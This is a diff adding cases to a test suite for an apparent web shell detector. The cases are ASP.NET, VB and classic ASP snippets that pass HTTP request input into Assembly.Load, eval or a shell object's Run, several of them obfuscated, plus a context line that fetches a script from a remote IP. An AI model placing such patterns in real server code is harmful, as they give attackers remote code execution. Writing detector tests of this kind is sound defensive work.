@@ -110,6 +110,30 @@ describe('data is followed through C#', () => {
       'a file known by its name',
       'void P() { File.WriteAllText(T() + "\\\\a.tmp", Request["q"]); } void R() { Assembly.LoadFile("c:\\\\t\\\\a.tmp"); }',
     ],
+    [
+      'a stream over a stream',
+      'void P() { var m = new MemoryStream(); var w = new BinaryWriter(m); w.Write(Request["q"]); Assembly.Load(m.ToArray()); }',
+    ],
+    [
+      'a field that a constructor fills from a parameter of its name',
+      'class J { string a; public J(string a) { this.a = a; } public void Go() { Assembly.Load(a); } } void P() { new J(Request["q"]).Go(); }',
+    ],
+    [
+      'a constructor that is an expression',
+      'class J { string a; public J(string b) => a = b; public void Go() => Assembly.Load(a); } void P() { new J(Request["q"]).Go(); }',
+    ],
+    [
+      'the method of a delegate',
+      'void P() { D d = Assembly.Load; d.Method.Invoke(null, new object[] { Request["q"] }); }',
+    ],
+    [
+      'the handle of a method',
+      'void P() { var m = MethodBase.GetMethodFromHandle(typeof(Assembly).GetMethod("Load").MethodHandle); m.Invoke(null, new object[] { Request["q"] }); }',
+    ],
+    [
+      'what is kept with a callback',
+      'void R(string k, object v) { Assembly.Load(v); } void P() { Cache.Insert("k", Request["q"], R); }',
+    ],
     ['a name in disguise', 'void P() { D\\u0065l l = Assembly.Lo\\u0061d; l(Request["q"]); }'],
   ])('%s', (_, code) => expect(reached('aspx', csharp(code))).toContain('load Request["q"]'));
 
@@ -180,6 +204,32 @@ describe('data comes in by', () => {
       'load parameter a',
     ],
     [
+      'a message to a service',
+      'cs',
+      'class E : SoapExtension { void P(SoapMessage m) { Assembly.Load(new StreamReader(m.Stream).ReadToEnd()); } }',
+      'load m.Stream',
+    ],
+    [
+      'a handler of messages',
+      'cs',
+      'class H : DelegatingHandler { X SendAsync(HttpRequestMessage r) { Assembly.Load(r.Content.ReadAsStringAsync().Result); } }',
+      'load Request.Content',
+    ],
+    [
+      'the address of a web socket',
+      'ashx',
+      '<%@ WebHandler Language="C#" Class="H" %> class H { void P(AspNetWebSocketContext x) { Assembly.Load(x.QueryString["a"]); } }',
+      'load x.QueryString["a"]',
+    ],
+    [
+      'the request found by reflection',
+      'aspx',
+      csharp(
+        'void P() { object r = typeof(Page).GetProperty("Request").GetValue(this, null); var f = r.GetType().GetProperty("Form").GetValue(r, null); Assembly.Load(f["a"]); }',
+      ),
+      'load f["a"]',
+    ],
+    [
       'a web socket',
       'ashx',
       '<%@ WebHandler Language="C#" Class="H" %> class H { void P(X x) { var w = x.WebSocket; w.ReceiveAsync(b, t); Assembly.Load(b); } }',
@@ -208,6 +258,10 @@ describe('data is followed through Visual Basic', () => {
     [
       'an argument by reference',
       'Sub G(ByRef s)\r\ns = Request("q")\r\nEnd Sub\r\nSub P()\r\nDim z\r\nG(z)\r\nAssembly.Load(z)\r\nEnd Sub',
+    ],
+    [
+      'an object of the file',
+      'Class J\r\nPrivate a\r\nPublic Sub New(a)\r\nMe.a = a\r\nEnd Sub\r\nSub Go()\r\nAssembly.Load(a)\r\nEnd Sub\r\nEnd Class\r\nSub P()\r\nDim j = New J(Request("q"))\r\nj.Go()\r\nEnd Sub',
     ],
     ['a line that goes on', 'Sub P()\r\nDim z = Request _\r\n("q")\r\nAssembly _\r\n.Load(z)\r\nEnd Sub'],
   ])('%s', (_, code) =>
@@ -269,6 +323,13 @@ describe('data is followed through classic ASP', () => {
       classic('Set o = GetObject("script:http://203.0.113.9/a")'),
       'evaluate script:http://203.0.113.9/a',
     ],
+    [
+      'an object by class id',
+      classic('Set s = GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}")\r\ns.Run Request("q")'),
+      'process Request("q")',
+    ],
+    ['a function given to a list', jscript('[Request("q")].forEach(eval);'), 'evaluate Request("q")'],
+    ['the request by its name', jscript('var r = this["Req" + "uest"]; eval(r("q"));'), 'evaluate r("q")'],
     ['a function object', jscript('new (Function)(Request("q"))();'), 'evaluate Request("q")'],
     [
       'a constructor of constructors',
